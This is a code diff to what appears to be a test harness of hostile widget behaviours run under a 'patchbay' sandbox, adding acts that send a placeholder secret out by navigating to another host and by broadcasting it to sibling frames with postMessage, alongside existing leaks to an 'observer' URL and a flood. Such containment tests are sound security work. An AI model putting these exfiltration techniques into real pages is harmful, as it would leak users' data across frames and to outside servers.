@@ -120,6 +120,16 @@ const acts = {
     document.head.append(
       Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${observer}/leak/refresh?secret=42` }),
     ),
+  // to another frame of the widgets' host, which may reach a server that this one may not
+  'go to': (place) => void (location.href = `${place}?secret=42${location.hash}`),
+  whisper() {
+    let rounds = 0;
+    setInterval(() => {
+      for (let n = 0; n < parent.length; n++) if (parent[n] !== window) parent[n].postMessage('secret', '*');
+      rounds += 1;
+      say({ rounds });
+    }, 50);
+  },
   'leave within': () => void (location.href = `${new URL('.', location.href)}bundle.js`),
   flood() {
     // ten thousand a second, for as long as it may
@@ -168,7 +178,10 @@ const acts = {
 };
 
 if (window.patchbay) {
-  patchbay.ready().then(() => acts[patchbay.config.act]?.());
+  patchbay.ready().then(() => {
+    const [act, ...more] = patchbay.config.act.split('→');
+    acts[act]?.(...more);
+  });
 } else {
   // in a window that has everything again
   tryAll(observer, '%UDP%');
